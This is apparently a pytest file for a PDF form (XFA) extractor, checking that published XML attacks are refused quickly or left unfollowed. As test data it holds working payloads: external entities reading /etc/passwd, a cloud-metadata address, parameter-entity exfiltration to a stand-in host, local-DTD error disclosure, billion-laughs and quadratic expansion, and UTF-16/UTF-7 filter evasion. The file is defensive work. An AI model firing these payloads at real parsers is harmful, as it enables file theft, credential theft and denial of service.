"""The published attacks by XML, each in the data of a form: nothing is fetched, nothing expands."""

import codecs
import io
import time
from pathlib import Path

import pikepdf
import pytest

from extractors.ends import AgainstPolicy
from extractors.images.pictures import EncodedAlbum
from extractors.limits import DEFAULT_LIMITS
from extractors.reading import read
from extractors.xfa.form import XfaReading, read_form_packets
from models.extraction import ReadStatus

XDP = "http://ns.adobe.com/xdp/"
DATA = "http://www.xfa.org/schema/xfa-data/1.0/"
HEAD = '<?xml version="1.0"?>'


def form(inside: str, before: str = "") -> str:
    return (
        f'{before}<xdp:xdp xmlns:xdp="{XDP}"><xfa:datasets xmlns:xfa="{DATA}"><xfa:data>'
        f"<form1><Page1><Name>{inside}</Name></Page1></form1></xfa:data></xfa:datasets></xdp:xdp>"
    )


def doctype(inside: str) -> str:
    return f"<!DOCTYPE x [{inside}]>"


LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 10}">'
    for old, new in zip("abcdefghi", "bcdefghij", strict=True)
)
SYSTEM = '<!ENTITY x SYSTEM "file:///etc/passwd">'
LOCAL_DTD = (
    '<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">'
    '<!ENTITY % constant "int)><!ENTITY &#x25; f SYSTEM &#x27;file:///etc/passwd&#x27;>">%l;'
)
REFUSED = [
    # A local file as the value of a field.
    ("local file", form("&x;", doctype(SYSTEM)).encode()),
    # A page on the network, and the address of a cloud's credentials.
    ("network", form("&x;", doctype('<!ENTITY x SYSTEM "http://169.254.169.254/">')).encode()),
    # What a file says is sent away by parameter entities of an external definition.
    ("parameter", form("", doctype('<!ENTITY % p SYSTEM "http://h.test/e.dtd"> %p;')).encode()),
    # An error message that shows a file, built from a definition that every machine has.
    ("local definition", form("", doctype(LOCAL_DTD)).encode()),
    # Ten to the ninth words from a few hundred bytes.
    ("billion laughs", form("&j;", doctype(LAUGHS)).encode()),
    # One long entity, many times.
    (
        "quadratic",
        form("&q;" * 2000, doctype(f'<!ENTITY q "{"A" * 100_000}">')).encode(),
    ),
    # The same by default attribute values.
    ("attribute list", form("", doctype('<!ATTLIST form1 v CDATA "big">')).encode()),
    # An external definition without any entity.
    ("external definition", form("", '<!DOCTYPE x SYSTEM "http://h.test/x.dtd">').encode()),
    ("public definition", form("", '<!DOCTYPE x PUBLIC "-//X//EN" "http://h.test/x">').encode()),
    # The entity stands in an attribute.
    (
        "in an attribute",
        form('<a b="&x;"/>', doctype('<!ENTITY x "value">')).encode(),
    ),
    # The definition stands behind comments, instructions and blank lines.
    ("behind comments", form("&x;", f"{HEAD}<!-- a --><?a b?>\n\n{doctype(SYSTEM)}").encode()),
    # Behind the mark of byte order.
    ("behind a mark", codecs.BOM_UTF8 + form("&x;", doctype(SYSTEM)).encode()),
    # In an encoding in which a filter for "<!DOCTYPE" sees nothing.
    ("utf-16 with mark", form("&x;", doctype(SYSTEM)).encode("utf-16")),
    (
        "utf-16 declared",
        codecs.BOM_UTF16_BE
        + form("&x;", '<?xml version="1.0" encoding="UTF-16"?>' + doctype(SYSTEM)).encode(
            "utf-16-be"
        ),
    ),
    # Elements within elements, and very many of them.
    ("deep", form("<a>" * 5_000 + "</a>" * 5_000).encode()),
    ("many", form("<a/>" * 500_000).encode()),
]
HARMLESS = [
    # An inclusion is an element like any other; nothing is included.
    (
        "xinclude",
        form(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
            'href="file:///etc/passwd"/>'
        ).encode(),
    ),
    # A style sheet is an instruction that nobody follows.
    ("style sheet", form("", '<?xml-stylesheet href="file:///etc/passwd"?>').encode()),
    # The place of a schema is not visited.
    (
        "schema",
        form(
            '<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
            'i:schemaLocation="x file:///etc/passwd"/>'
        ).encode(),
    ),
    # An entity that is declared nowhere.
    ("undeclared", form("&x;").encode()),
    # UTF-7 hides the definition from filters, and from parsers that do not read UTF-7.
    (
        "utf-7",
        b'<?xml version="1.0" encoding="UTF-7"?>'
        + doctype(SYSTEM).replace("<", "+ADw-").replace(">", "+AD4-").encode()
        + form("+ACY-x+ADs-").encode(),
    ),
    # Marked sections are text.
    ("marked section", form("<![CDATA[<!DOCTYPE x [<!ENTITY x SYSTEM 'a'>]>]]>").encode()),
    # Bytes that are no XML at all.
    ("nothing", b""),
    ("noise", bytes(range(256)) * 8),
    ("cut", form("Ouédraogo").encode()[:-60]),
]


def read_packets(content: bytes) -> XfaReading:
    return read_form_packets(content, DEFAULT_LIMITS, EncodedAlbum())


@pytest.mark.parametrize(
    "content", [content for _, content in REFUSED], ids=[name for name, _ in REFUSED]
)
def test_attacks_by_definitions_and_size_are_refused_at_once(content: bytes) -> None:
    begun = time.process_time()
    with pytest.raises(AgainstPolicy):
        read_packets(content)
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    "content", [content for _, content in HARMLESS], ids=[name for name, _ in HARMLESS]
)
def test_what_a_parser_might_follow_is_not_followed(content: bytes) -> None:
    reading = read_packets(content)
    told = [field.value for field in reading.content.fields] if reading.content else []
    secret = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
    assert not any(secret in value for value in told)
    assert reading.content is not None or reading.problems


@pytest.mark.parametrize("packet", ["datasets", "template", "form"])
def test_an_attack_in_any_packet_of_a_file_ends_its_reading(packet: str) -> None:
    packets = {
        "template": "<template/>",
        "datasets": f'<xfa:datasets xmlns:xfa="{DATA}"><xfa:data><form1><a>b</a></form1>'
        "</xfa:data></xfa:datasets>",
        "form": "<form/>",
    }
    packets[packet] = doctype(SYSTEM) + packets[packet]
    document = pikepdf.new()
    document.add_blank_page()
    entries: list[pikepdf.Object | str] = []
    for name, text in packets.items():
        entries += [pikepdf.String(name), document.make_stream(text.encode())]
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array(entries))
    document.Root.NeedsRendering = True
    target = io.BytesIO()
    document.save(target)
    outcome = read(target.getvalue())
    assert outcome.status is ReadStatus.POLICY
    assert outcome.reason is not None
    assert outcome.reason.en
    assert outcome.reason.fr
